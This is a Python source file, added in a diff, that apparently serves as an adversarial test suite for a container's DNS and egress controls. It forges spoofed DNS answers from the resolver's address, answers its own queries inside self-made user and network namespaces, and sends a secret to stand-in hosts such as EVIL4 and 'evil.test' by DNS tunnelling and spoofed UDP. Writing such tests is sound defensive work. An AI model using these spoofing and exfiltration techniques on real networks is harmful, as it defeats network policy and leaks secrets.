@@ -1,0 +1,220 @@
+"""DNS: answers that are not to be believed, and questions that are not questions."""
+
+import ctypes
+import os
+import socket
+import struct
+import time
+
+from attack import *
+
+PORT = 5555
+
+
+def name(text):
+    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"
+
+
+def query(ident, qname=NAME, kind=1):
+    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + name(qname) + struct.pack("!HH", kind, 1)
+
+
+def answer(ident, address, qname=NAME, owner=None):
+    four = ":" not in address
+    record = (name(owner) if owner else b"\xc0\x0c") + struct.pack(
+        "!HHIH", 1 if four else 28, 1, 300, 4 if four else 16) + packed(address)
+    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + name(qname) + struct.pack(
+        "!HH", 1 if four else 28, 1) + record
+
+
+def forge(data, source=RESOLVER4, sport=53, dport=PORT):
+    """From the world, in the name of a DNS server."""
+    send_raw(ip4(source, POD4, 17, udp_segment(source, POD4, sport, dport, data)))
+
+
+def ask(ident=7, qname=NAME, server=RESOLVER4, wait=True):
+    """A question from a port that the accomplice knows, and what came back."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("", PORT))
+    s.settimeout(TIMEOUT)
+    s.sendto(query(ident, qname), (server, 53))
+    if wait:
+        attempt(lambda: s.recv(1000))
+    return s
+
+
+def use():
+    """Goes where the forged answer led."""
+    attempt(lambda: tcp(EVIL4, 443), lambda: udp(EVIL4))
+
+
+def forged_all_along(*arguments, **more):
+    """The accomplice forges the same answer from before the question until after it."""
+    for _ in range(60):
+        forge(*arguments, **more)
+        time.sleep(0.01)
+
+
+@way(helper=lambda: [forged_all_along(answer(ident, EVIL4)) for ident in (6, 8)])
+def wrong_id():
+    """Answers with another ID race with the real one."""
+    time.sleep(0.1)
+    ask()
+    time.sleep(0.6)
+    ask()
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4, "api.other.test")))
+def wrong_name():
+    """Answers to another question race with the real one."""
+    time.sleep(0.1)
+    ask()
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4, owner="api.other.test")))
+def wrong_owner():
+    """Answers to the question that hold records of another name (after the real one: it was asked once)."""
+    time.sleep(0.7)
+    ask(qname="n1.fresh.test")
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4), source=STRANGER4))
+def other_server():
+    """Answers from an address that was not asked."""
+    time.sleep(0.1)
+    ask()
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4), sport=5353))
+def other_source_port():
+    """Answers that do not come from port 53."""
+    time.sleep(0.1)
+    ask()
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4), dport=PORT + 1))
+def other_port():
+    """Answers to a port that did not ask."""
+    time.sleep(0.1)
+    ask()
+    use()
+
+
+@way(helper=lambda: [time.sleep(0.7), forged_all_along(answer(7, EVIL4))])
+def late_duplicate():
+    """A second answer to a question that was answered."""
+    s = ask()
+    time.sleep(1.0)
+    attempt(lambda: s.recv(1000))
+    use()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL4)))
+def unasked():
+    """An answer to a question that nobody asked."""
+    time.sleep(0.3)
+    use()
+
+
+@way(caps=["net_raw"])
+def by_the_pod_itself():
+    """Asks, and answers its own question over loopback, with the resolver's address as the source."""
+    s = ask(wait=False)
+    forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(7, EVIL4)))
+    s.sendto(query(8), (RESOLVER4, 53))
+    again = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(8, EVIL4)))
+    attempt(lambda: send_raw(forged), lambda: send_raw(again),
+            lambda: send_frame(forged, device="lo", to=b"\0" * 6),
+            lambda: send_frame(again, device="lo", to=b"\0" * 6))
+    use()
+
+
+@way(caps=["net_raw"])
+def unheard_question():
+    """Asks the resolver for an allowed name by frames, where no program hears it, in the hope that the answer is
+    believed all the same; and a name of its own."""
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("", PORT))
+    listener.settimeout(TIMEOUT)
+    send_frame(ip4(POD4, RESOLVER4, 17, udp_segment(POD4, RESOLVER4, PORT, 53, query(7, "n1.fresh.test"))))
+    attempt(lambda: listener.recv(1000))
+    use()
+
+
+@way(caps=["setfcap"])
+def answered_in_a_namespace_of_its_own():
+    """Asks in a network namespace of its own (by way of a user namespace, as every container may), answers itself there
+    in the resolver's name by a device that it made, and goes to the address from the pod's namespace."""
+    in_own_namespace(lambda: teach(7))
+    use()
+
+
+def teach(ident):
+    """Asks an allowed name, and gets an answer by a device that has the number of the pod's interface."""
+    s = ask(ident, wait=False)
+    forged = ip4(RESOLVER4, POD4, 17, udp_segment(RESOLVER4, POD4, 53, PORT, answer(ident, EVIL4)))
+    for _ in range(3):
+        send_frame(forged, device="v7b", to=mac("v7a"))
+    attempt(lambda: s.recv(1000))
+
+
+@way(caps=["setfcap"])
+def flow_in_a_namespace_of_its_own():
+    """The same with a datagram in the destination's name, so that the pod seems to reply."""
+    def fake():
+        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        server.bind(("", 7104))
+        server.settimeout(TIMEOUT)
+        send_frame(ip4(EVIL4, POD4, 17, udp_segment(EVIL4, POD4, 123, 7104, b"hello")), device="v7b", to=mac("v7a"))
+        server.recvfrom(100)
+    in_own_namespace(fake)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("", 7104))
+    s.sendto(SECRET, (EVIL4, 123))
+
+
+def in_own_namespace(function):
+    """A process in a user and a network namespace of its own, with a device that looks like the pod's interface."""
+    index = str(socket.if_nametoindex("eth0"))
+    child = os.fork()
+    if child == 0:
+        if ctypes.CDLL(None).unshare(0x10000000 | 0x40000000) == 0:
+            with open("/proc/self/uid_map", "w") as file:
+                file.write("0 0 1")
+            attempt(lambda: ip("link", "add", "v7a", "index", index, "type", "veth", "peer", "name", "v7b"),
+                    lambda: ip("addr", "add", POD4 + "/24", "dev", "v7a"),
+                    lambda: [ip("link", "set", device, "up") for device in ("lo", "v7a", "v7b")],
+                    lambda: ip("route", "add", "default", "dev", "v7a"),
+                    lambda: ip("neigh", "replace", RESOLVER4, "lladdr", "02:00:00:00:00:99", "dev", "v7a"),
+                    function)
+        os._exit(0)
+    os.waitpid(child, 0)
+
+
+@way()
+def another_server():
+    """A question with the secret in it to a server that is not the pod's, over UDP and TCP."""
+    tunnel = SECRET.decode() + ".evil.test"
+    question = query(9, tunnel)
+    attempt(lambda: udp(STRANGER4, 53, question), lambda: udp(EVIL4, 53, question),
+            lambda: tcp(STRANGER4, 53, struct.pack("!H", len(question)) + question))
+
+
+@way()
+def from_port_53():
+    """Sends from port 53, as if it were a server that answers."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    attempt(lambda: s.bind(("", 53)))
+    s.sendto(SECRET, (EVIL4, 40000))
+
+
+@way()
+def what_another_pod_learned():
+    """Goes to an address that another pod of the node has learned by an allowed name."""
+    attempt(lambda: tcp(EVIL4, 443), lambda: tcp(EVIL6, 443))
